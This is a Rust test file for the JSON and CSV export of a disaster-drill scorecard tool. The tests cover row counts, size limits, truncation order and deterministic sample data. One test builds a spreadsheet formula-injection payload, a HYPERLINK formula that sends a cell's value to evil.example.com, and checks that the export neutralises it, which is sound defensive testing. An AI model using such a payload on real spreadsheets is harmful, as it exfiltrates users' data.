//! Everything that is shown, as JSON and CSV.

use firedrill_core::Outcome::{NotRecovered, Recovered};
use firedrill_scorecard::{
    export,
    input::ScheduledDrill,
    model::{DrillKey, Scorecard, State},
    sample,
};
use serde_json::{Value, json};

use crate::common::{days, inputs, now, result_of, scheduled_with};

fn rows(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    reader.records().map(|record| record.unwrap().iter().map(str::to_owned).collect()).collect()
}

#[test]
fn everything_in_the_sample_year_is_exported() {
    let inputs = sample::year(now());
    let scorecard = Scorecard::of(&inputs, now());
    assert_eq!(scorecard.unread, [""; 0]);
    let rows = rows(&export::csv(&scorecard));
    assert!(rows.iter().all(|row| row.len() == export::COLUMNS.len()));
    let of_part = |part: &str| rows.iter().filter(|row| row[0] == part).count();
    assert_eq!(of_part("answer"), 3);
    assert_eq!(of_part("week"), 53 * scorecard.drills.len());
    assert_eq!(of_part("run"), inputs.results.iter().filter(|result| result.injected.is_some()).count());
    assert_eq!(of_part("finding"), scorecard.findings.len());
    let read: Value = serde_json::from_str(&export::json(&scorecard)).unwrap();
    assert_eq!(read["drills"].as_array().unwrap().len(), scorecard.drills.len());
    for answer in &scorecard.applications {
        assert!(
            rows.iter().any(|row| row[0] == "answer" && row[9] == answer.sentence),
            "{}",
            answer.sentence
        );
    }
}

#[test]
fn the_sample_year_never_lacks_what_it_is_there_to_show() {
    let scorecard = Scorecard::of(&sample::year(now()), now());
    for state in [State::Proven, State::Stale, State::Failing, State::NeverTried] {
        assert!(scorecard.drills.iter().any(|drill| drill.state == state), "{state}");
    }
    let sentences: Vec<&str> = scorecard.applications.iter().map(|answer| answer.sentence.as_str()).collect();
    assert_eq!(
        sentences,
        [
            "Bookstore: compute failing since 29 October 2026, overdue 23 days; database overdue 3 days; \
         CDN proven 20 days ago; mail never tried: it has no drill.",
            "search: search-index never tried; cannot tell which of them are critical, because it declares no dependencies.",
            "Checkout: compute proven 9 days ago; database proven 31 days ago and due again.",
        ]
    );
    assert!(scorecard.losses.iter().any(|loss| loss.incidents.events > 0));
    assert!(scorecard.coverage.iter().all(|coverage| coverage.environments == ["staging", "production"]));
    // It is the same whenever it is made.
    let again = Scorecard::of(&sample::year(now()), now());
    assert_eq!(export::json(&scorecard), export::json(&again));
    assert_eq!(Scorecard::of(&sample::year_of(200, now()), now()).drills.len(), 200);
}

#[test]
fn what_a_request_or_a_run_says_is_never_a_formula() {
    let formula = "=HYPERLINK(\"https://evil.example.com/?\"&A1,\"click\")";
    for begin in ["=", "+", "-", "@", "\t=", " ="] {
        let text = format!("{begin}{formula}");
        let fields = json!({ "why": text, "own": text, "pbVer": text, "dep": text });
        let result = result_of("staging/bookstore/blue", now() - days(1), NotRecovered, &fields);
        let scheduled = scheduled_with(
            "rate(1 day)",
            &[("/playbook/owner", json!(text)), ("/playbook/version", json!(text))],
        );
        for drills in [Vec::new(), vec![scheduled]] {
            let scorecard = Scorecard::of(&inputs(vec![result.clone()], drills), now());
            let rows = rows(&export::csv(&scorecard));
            let quoted = rows.iter().flatten().filter(|field| field.contains("HYPERLINK"));
            assert!(quoted.count() > 2);
            for field in rows.iter().flatten() {
                assert!(!field.trim_start().starts_with(['=', '+', '-', '@']), "{field:?}");
            }
        }
    }
}

/// So many drills of one application with so many runs each, the last one an hour ago.
fn many(drills: usize, runs: u64) -> Scorecard {
    let mut inputs = sample::year_of(drills, now());
    let fields = json!({ "det": [10_000, 500], "over": [20_000, 500], "backMs": 100_000 });
    let keys = inputs.scheduled.drills.iter().filter_map(ScheduledDrill::key);
    let of_drill = |key: DrillKey| {
        let first = result_of(&key.to_string(), now(), Recovered, &fields);
        (0..runs).map(move |number| {
            let mut result = first.clone();
            result.run_id = format!("{key}/{number}");
            result.finished = now() - std::time::Duration::from_hours(1 + 19 * number);
            result.injected = Some(result.finished);
            result
        })
    };
    inputs.results = keys.flat_map(of_drill).collect();
    Scorecard::of(&inputs, now())
}

#[test]
fn a_file_never_grows_beyond_its_bounds_and_says_what_it_leaves_out() {
    let scorecard = many(120, 500);
    let (json, csv) = (export::json(&scorecard), export::csv(&scorecard));
    assert!(
        json.len() <= export::MAX_BYTES && csv.len() <= export::MAX_BYTES,
        "{} {}",
        json.len(),
        csv.len()
    );
    let read: Value = serde_json::from_str(&json).unwrap();
    let left_out = |what: &str| {
        let list = read["leftOut"].as_array().unwrap().iter();
        list.filter(|of| of["what"] == what).map(|of| of["number"].as_u64().unwrap()).sum::<u64>()
    };
    let drills = read["drills"].as_array().unwrap();
    assert_eq!(drills.len(), 120, "each of them is there");
    let without_past = drills.iter().filter(|drill| drill["calendar"].as_array().unwrap().is_empty()).count();
    assert!(without_past > 0 && without_past < 120);
    assert_eq!(left_out("calendars and runs of drills"), without_past as u64);
    assert_eq!(left_out("older runs"), 120 * (500 - export::MAX_RUNS as u64));
    let rows = rows(&csv);
    let of_part = |part: &str| rows.iter().filter(|row| row[0] == part).count();
    let left_out = |what: &str| {
        let row = rows.iter().find(|row| row[0] == "leftOut" && row[5] == what);
        row.map_or(0, |row| row[8].parse().unwrap())
    };
    let states = rows.iter().filter(|row| row[0] == "drill" && row[5] == "state").count();
    assert_eq!((states, left_out("drills")), (120, 0));
    assert_eq!(of_part("week"), 53 * (120 - left_out("calendars of drills")));
    assert_eq!(of_part("run"), export::MAX_RUNS * (120 - left_out("runs of drills")));
    assert!(left_out("runs of drills") > 0);
}

#[test]
fn of_a_file_that_is_full_the_worst_drills_are_never_left_out_before_others() {
    let mut scorecard = many(2, 3);
    for number in 0..4_000 {
        let mut drill = scorecard.drills[1].clone();
        drill.key.drill = format!("drill-{number}");
        scorecard.drills.push(drill);
    }
    let json = export::json(&scorecard);
    assert!(json.len() <= export::MAX_BYTES, "{}", json.len());
    let read: Value = serde_json::from_str(&json).unwrap();
    let shown: Vec<&str> =
        read["drills"].as_array().unwrap().iter().map(|of| of["key"]["drill"].as_str().unwrap()).collect();
    let all: Vec<&str> = scorecard.drills.iter().map(|drill| drill.key.drill.as_str()).collect();
    assert_eq!(shown, all[..shown.len()]);
    assert!(shown.len() < all.len());
    let left_out = read["leftOut"].as_array().unwrap().iter().find(|of| of["what"] == "drills").unwrap();
    assert_eq!(left_out["number"], json!(all.len() - shown.len()), "{}", read["leftOut"]);
    assert!(export::csv(&scorecard).len() <= export::MAX_BYTES);
}

#[test]
fn a_small_scorecard_is_never_cut() {
    let read: Value =
        serde_json::from_str(&export::json(&Scorecard::of(&sample::year(now()), now()))).unwrap();
    assert_eq!(read["leftOut"], json!([]));
    let of = |value: &Value| value["drills"][0]["calendar"].as_array().unwrap().len();
    assert_eq!(of(&read), 53);
}
